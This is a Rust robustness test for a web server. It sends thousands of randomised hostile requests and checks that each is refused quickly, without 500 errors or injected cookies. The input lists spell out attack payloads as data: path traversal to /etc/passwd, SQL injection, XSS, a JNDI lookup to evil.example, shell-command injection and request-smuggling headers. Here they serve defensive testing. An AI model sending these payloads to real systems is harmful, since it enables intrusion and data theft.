//! Requests that nobody means: encodings, traversal, injections, odd headers, query bombs, random bytes. None is answered
//! with 500, none takes long, and the server goes on.

use std::io::{Read as _, Write as _};
use std::net::Shutdown;
use std::time::{Duration, Instant};

use anli::web::Limits;

use super::{HONEST, Serving, is_guarded, rest};
use crate::support::{Dice, number};

/// How long an answer may take. Without optimisation the program needs several times longer.
const AT_MOST: Duration = Duration::from_secs(if cfg!(debug_assertions) { 5 } else { 1 });

/// Addresses that take something; `*` is where it goes.
const ADDRESSES: [&str; 30] = [
    "/*",
    "/search?q=*",
    "/search.json?q=*",
    "/search?q=a&*",
    "/search?q=%E5%9F%8E%E5%B8%82&place=*",
    "/search?list=*&page=*",
    "/search.json?limit=*&offset=*",
    "/suggest.json?q=*",
    "/check?q=*",
    "/check.json?q=*",
    "/compare?case=*&case=*",
    "/folder?case=*",
    "/folder.docx?case=*",
    "/lists/*",
    "/lists/urban-renewal-4/*",
    "/lists/urban-renewal-4/4/*/1",
    "/lists/urban-renewal-4/4/1/1.*",
    "/lists/urban-renewal-4/4/1/1/*",
    "/localities/*",
    "/organisations/*",
    "/documents/*",
    "/documents?q=*",
    "/figures?kind=*&min=*",
    "/figures.csv?*",
    "/overview?*",
    "/static/*",
    "/download/*",
    "/feed.atom?*",
    "/openapi.json?*",
    "http://evil.example/*",
];

/// What is put there.
const PIECES: [&str; 64] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fCargo.toml",
    "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/./././",
    "//evil.example//",
    "%00",
    "a%00b",
    "%0d%0aSet-Cookie:%20a=b",
    "%E5%9F",
    "%ff%fe",
    "%",
    "%%",
    "%zz",
    "%u57ce",
    "%C0%80",
    "%ED%A0%80",
    "%F4%90%80%80",
    "\u{57ce}\u{5e02}",
    "%E5%9F%8E%E5%B8%82",
    "%EF%BB%BF%E2%80%8B%E2%80%AE",
    "' OR '1'='1",
    "'%20OR%201=1--",
    "1;DROP%20TABLE%20cases;--",
    "%22;SELECT%20*%20FROM%20sources",
    "1%20UNION%20SELECT%20bytes%20FROM%20sources",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%7B%7B7*7%7D%7D",
    "$(id)",
    "%60id%60",
    ";cat%20/etc/passwd",
    "|id",
    "__proto__",
    "constructor",
    "-1",
    "0",
    "00000000000000000001",
    "18446744073709551615",
    "18446744073709551616",
    "99999999999999999999999999",
    "1e400",
    "-0.0",
    "NaN",
    "Infinity",
    "0x10",
    "%D9%A1%D9%A2",
    "%EF%BC%91",
    "AND",
    "%22",
    "(((((((((((((((((((((((((((((((((((((((",
    "NOT%20NOT%20NOT%20NOT%20OR%20OR%20AND",
    "%E9%87%91%E9%A2%9D:%3E%3E%3E",
    "%E9%87%91%E9%A2%9D:%3E1%E4%BA%BF..%3C",
    "%E6%96%87%E4%BB%B6:%22",
    "***",
    "?*?",
    "a=b&a=b&a=b",
    "q=1&q=2&q[]=3&q[a]=4",
];

/// What makes a query long when it is repeated.
const BOMBS: [&str; 10] = [
    "%E5%9F%8E",
    "%E5%9F%8E%E5%B8%82%20",
    "a%20",
    "a*%20",
    "(",
    "%22a%22%20",
    "-a%20",
    "a%20OR%20",
    "%E9%87%91%E9%A2%9D:%3E1%20",
    "%F0%A0%AE%B7",
];

/// Lines of a head that are odd, with their ends.
const HEADERS: [&str; 40] = [
    "Host: \r\n",
    "Host: a\r\nHost: b\r\n",
    "Host: evil.example:99999\r\n",
    "Host: [::1\r\n",
    "Host: a b\r\n",
    "Content-Length: -1\r\n",
    "Content-Length: 5, 6\r\n",
    "Content-Length: 18446744073709551616\r\n",
    "Content-Length: 4\r\nContent-Length: 5\r\n",
    "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked, chunked\r\n",
    "Transfer-Encoding: identity\r\n",
    "Transfer-Encoding : chunked\r\n",
    "Expect: 100-continue\r\n",
    "Expect: the-unexpected\r\n",
    "Range: bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6\r\n",
    "Range: bytes=18446744073709551615-\r\n",
    "Range: bytes=5-1\r\n",
    "If-None-Match: *\r\n",
    "If-None-Match: \"\u{57ce}\r\n",
    "If-Modified-Since: yesterday\r\n",
    "If-Modified-Since: Sat, 31 Feb 99999 00:00:00 GMT\r\n",
    "Accept: */*;q=9999999999, text/html;q=-1\r\n",
    "Accept: ,,,;;;===\r\n",
    "Accept-Encoding: br;q=0, gzip;q=0, identity;q=0, *;q=0\r\n",
    "Accept-Encoding: gzip;q=NaN\r\n",
    "Accept-Language: zh-\u{57ce}\r\n",
    "Cookie: a=b; a=c; ; ;==;\r\n",
    "X-Forwarded-For: ', 1.2.3.4.5, ::::\r\n",
    "X-Forwarded-Proto: javascript\r\n",
    "Forwarded: for=\"\r\n",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n",
    "Upgrade: websocket\r\nConnection: upgrade\r\nSec-WebSocket-Key: x\r\n",
    "Connection: close, keep-alive, host\r\n",
    "X-A: \x01\r\n",
    "X-A\r\n",
    " folded: x\r\n",
    "X-A: b\r\n c\r\n",
    ": x\r\n",
];

const METHODS: [&str; 12] =
    ["GET", "GET", "GET", "GET", "GET", "HEAD", "POST", "PUT", "OPTIONS", "TRACE", "get", "CONNECT"];

fn target(dice: &mut Dice) -> Vec<u8> {
    let mut target = Vec::new();
    for part in dice.of(&ADDRESSES).split_inclusive('*') {
        target.extend_from_slice(part.trim_end_matches('*').as_bytes());
        if !part.ends_with('*') {
            continue;
        }
        match dice.below(8) {
            0 => target.extend_from_slice(dice.of(&BOMBS).repeat(1 + dice.below(3000)).as_bytes()),
            1 => (0..dice.below(40)).for_each(|_| target.push(dice.roll() as u8)),
            2 => (0..dice.below(6))
                .for_each(|_| target.extend_from_slice(format!("%{:02X}", dice.below(256)).as_bytes())),
            _ => (0..=dice.below(3)).for_each(|_| target.extend_from_slice(dice.of(&PIECES).as_bytes())),
        }
    }
    target
}

fn request(dice: &mut Dice) -> Vec<u8> {
    if dice.below(16) == 0 {
        return (0..dice.below(400)).map(|_| dice.roll() as u8).collect();
    }
    let mut request = dice.of(&METHODS).as_bytes().to_vec();
    request.push(b' ');
    request.extend(target(dice));
    request.extend_from_slice(
        dice.of(&[" HTTP/1.1\r\n", " HTTP/1.1\r\n", " HTTP/1.1\r\n", " HTTP/1.0\r\n", " HTTP/3\r\n", "\r\n"])
            .as_bytes(),
    );
    if dice.below(4) > 0 {
        request.extend_from_slice(b"Host: anli.example\r\n");
    }
    for _ in 0..dice.below(3) {
        request.extend_from_slice(dice.of(&HEADERS).as_bytes());
    }
    request.extend_from_slice(b"Connection: close\r\n\r\n");
    if dice.below(4) == 0 {
        (0..dice.below(200)).for_each(|_| request.push(dice.roll() as u8));
    }
    // One byte is another than it was.
    if dice.below(6) == 0 {
        let at = dice.below(request.len());
        request[at] = dice.roll() as u8;
    }
    request
}

/// Sends it, says that nothing more comes, and gives what comes back and when its end came.
fn ask(serving: &Serving, request: &[u8]) -> (Vec<u8>, Duration) {
    let began = Instant::now();
    let mut stream = serving.connect();
    // The server may hang up before it has read all of it.
    let _ = stream.write_all(request);
    let _ = stream.shutdown(Shutdown::Write);
    let mut answer = Vec::new();
    let ended = stream.read_to_end(&mut answer);
    if ended.is_err_and(|error| matches!(error.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut)) {
        panic!("the connection stays open: {}", shown(request));
    }
    (answer, began.elapsed())
}

fn shown(request: &[u8]) -> String {
    request[..request.len().min(500)].escape_ascii().to_string()
}

/// `ANLI_FAULT_REQUESTS` says how many.
#[test]
fn requests_that_nobody_means_are_answered_or_refused_at_once() {
    let serving = Serving::site(Limits::default());
    // The first search loads the dictionary.
    rest(serving.send(b"GET /search?q=%E5%9F%8E%E5%B8%82 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"));
    let mut dice = Dice::seeded();
    let requests = number("ANLI_FAULT_REQUESTS", 3000);
    let mut statuses = std::collections::BTreeMap::<String, usize>::new();
    let mut slowest = Duration::ZERO;
    for n in 0..requests {
        let request = request(&mut dice);
        let (answer, took) = ask(&serving, &request);
        let head = answer.windows(4).position(|end| end == b"\r\n\r\n").map_or(answer.len(), |at| at + 4);
        let start = String::from_utf8_lossy(&answer[..head]).into_owned();
        let status = start.get(9..12).unwrap_or_default().to_owned();
        assert!(took < AT_MOST, "{n}: {took:?} {status}: {}", shown(&request));
        slowest = slowest.max(took);
        if start.starts_with("HTTP/1.") {
            assert!(!status.starts_with('5'), "{n}: {status}: {}\n{start}", shown(&request));
            is_guarded(&start);
            assert!(!start.to_ascii_lowercase().contains("\r\nset-cookie:"), "{n}: {}\n{start}", shown(&request));
        }
        *statuses.entry(status).or_default() += 1;
        if n % 500 == 0 {
            assert!(rest(serving.send(HONEST)).starts_with("HTTP/1.1 200"), "{n}");
        }
    }
    eprintln!("{requests} requests, the slowest {slowest:?}: {statuses:?}");
    assert!(rest(serving.send(HONEST)).starts_with("HTTP/1.1 200"), "the server goes on");
    assert!(statuses["200"] > 0 && statuses["400"] > 0 && statuses["404"] > 0, "{statuses:?}");
}

#[test]
fn a_body_in_broken_pieces_is_the_fault_of_its_client() {
    let serving = Serving::site(Limits::default());
    let head = "POST /mcp HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Type: application/json\r\n\
                Accept: application/json, text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n";
    for pieces in ["zz\r\n", "fffffffffffffffff\r\n{", "1\r\n{}\r\n"] {
        let answer = rest(serving.send(format!("{head}{pieces}").as_bytes()));
        assert!(answer.starts_with("HTTP/1.1 400 "), "{pieces:?}: {answer}");
    }
    let stream = serving.send(format!("{head}1\r\n{{\r\n").as_bytes());
    stream.shutdown(Shutdown::Write).expect("half of it is closed");
    let answer = rest(stream);
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 400 "), "{answer}");
    assert!(rest(serving.send(HONEST)).starts_with("HTTP/1.1 200"));
}
